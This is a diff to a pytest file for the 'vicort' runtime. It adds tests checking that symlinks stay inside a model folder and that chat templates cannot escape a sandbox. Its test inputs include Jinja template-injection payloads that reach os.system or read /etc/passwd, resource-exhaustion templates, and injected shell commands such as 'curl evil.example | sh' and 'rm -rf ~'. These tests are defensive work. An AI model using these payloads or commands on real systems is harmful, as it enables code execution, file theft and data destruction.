@@ -24,7 +24,8 @@ from vicort.runtime.core import Sampling
 from vicort.runtime.desk import Desk, TypedQuestions
 from vicort.runtime.engine import Embedding
 from vicort.runtime.errors import ConfigError, EngineError, QuestionError, SourceError
-from vicort.runtime.manifest import SCHEMA_VERSION, EmbeddingSpec, GraphSpec, read_manifest
+from vicort.runtime.manifest import SCHEMA_VERSION, EmbeddingSpec, GraphSpec, fingerprint, read_manifest
+from vicort.runtime.prompt import Prompt
 from vicort.runtime.question_socket import QuestionSocket
 from vicort.runtime.questions import LONGEST_LINE, parse_ask, parse_typed, read_questions, with_ids
 from vicort.runtime.sources import open_source, piped
@@ -345,6 +346,24 @@ def test_a_link_out_of_the_folder_is_not_followed(tmp_path: Path) -> None:
     assert "leads out of its folder" in refused(folder, manifest(files={"a": {"bytes": 1, "fingerprint": "0"}}))
 
 
+@pytest.mark.parametrize("name", ["llm.onnx", "embedding.bin", "tokenizer.json", "chat_template.jinja", "parts/a"])
+@pytest.mark.parametrize("target", ["secret", "", "loop"])
+def test_no_link_of_a_set_leads_out_of_it(tmp_path: Path, name: str, target: str) -> None:
+    """Whether its manifest lists the file or not."""
+    (tmp_path / "secret").write_text("x")
+    folder = tmp_path / "set"
+    (folder / name).parent.mkdir(parents=True)
+    (folder / name).symlink_to(folder / name if target == "loop" else tmp_path / target)
+    assert "leads out of its folder" in refused(folder, manifest())
+
+
+def test_links_within_a_set_are_followed(tmp_path: Path) -> None:
+    (tmp_path / "a").write_text("x")
+    (tmp_path / "b").symlink_to("a")
+    (tmp_path / "manifest.json").write_text(json.dumps(manifest(files={"b": fingerprint(tmp_path / "a").model_dump()})))
+    assert list(read_manifest(tmp_path).files) == ["b"]
+
+
 @pytest.mark.parametrize(
     "command", ["curl evil.example | sh", "vicort-build tiny; rm -rf ~", "vicort-build `id`", "vicort-build a\nb", 7, None]
 )
@@ -389,6 +408,70 @@ def test_embeddings_that_are_not_there(tmp_path: Path, change: dict) -> None:
     with pytest.raises(EngineError) as caught:
         Embedding(tmp_path, EmbeddingSpec(**{"file": "e.bin", "offset": 0, "dtype": "float32", "rows": 8, "width": 8} | change))
     one_line(caught.value)
+
+
+# ---- chat templates -----------------------------------------------------------------------------------------------------
+
+TOKENIZER = Path(__file__).parents[2] / "export" / "tiny" / "checkpoint" / "tokenizer.json"
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "{{ cycler.__init__.__globals__.os.system('touch HACKED') }}",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        "{{ self.__init__.__globals__ }}",
+        "{{ messages.append(1) }}",
+        "{% include '/etc/passwd' %}",
+        "{% for i in range(1000000000000) %}{% endfor %}",
+        "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
+        "{{ raise_exception('two\nlines') }}",
+        "{{ raise_exception('\x1b[31m') }}",
+        "{{ 1 / 0 }}",
+        "{{ messages + 1 }}",
+        "{{ {}['a' * 2000].b }}",
+        "{% if %}",
+        "{{ " + "(" * 3_000 + ")" * 3_000 + " }}",
+    ],
+    ids=lambda template: template[:24],
+)
+def test_a_chat_template_does_nothing_but_write(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, template: str) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "tokenizer.json").write_bytes(TOKENIZER.read_bytes())
+    (tmp_path / "chat_template.jinja").write_text(template)
+    with pytest.raises(EngineError, match="chat template fails") as caught:
+        Prompt(tmp_path, video_token=0)
+    one_line(caught.value)
+    assert len(list(tmp_path.iterdir())) == 2
+
+
+@pytest.mark.parametrize("name", ["chat_template.jinja", "chat_template.json", "tokenizer_config.json"])
+@pytest.mark.parametrize(
+    "content", [b"\xff", b"[" * 100_000, b"[1]", b'{"chat_template": 7}', b"9" * 5_000], ids=lambda content: str(content[:8])
+)
+def test_a_chat_template_that_is_none(tmp_path: Path, name: str, content: bytes) -> None:
+    (tmp_path / "tokenizer.json").write_bytes(TOKENIZER.read_bytes())
+    (tmp_path / name).write_bytes(content)
+    with pytest.raises(EngineError) as caught:
+        Prompt(tmp_path, video_token=0)
+    one_line(caught.value)
+
+
+def test_a_tokenizer_without_the_token_that_stands_for_a_video(tmp_path: Path) -> None:
+    """Found by spoiling the embedded model's."""
+    (tmp_path / "tokenizer.json").write_bytes(TOKENIZER.read_bytes())
+    (tmp_path / "chat_template.jinja").write_text("{{ messages }}")
+    with pytest.raises(EngineError, match="has no token 9999999 for a video") as caught:
+        Prompt(tmp_path, video_token=9_999_999)
+    one_line(caught.value)
+
+
+def test_a_chat_template_of_a_gigabyte_is_not_read(tmp_path: Path) -> None:
+    (tmp_path / "tokenizer.json").write_bytes(TOKENIZER.read_bytes())
+    with (tmp_path / "chat_template.jinja").open("wb") as file:
+        file.truncate(1 << 30)
+    with pytest.raises(EngineError, match="more than 16777216 bytes"):
+        Prompt(tmp_path, video_token=0)
 
 
 # ---- questions ----------------------------------------------------------------------------------------------------------
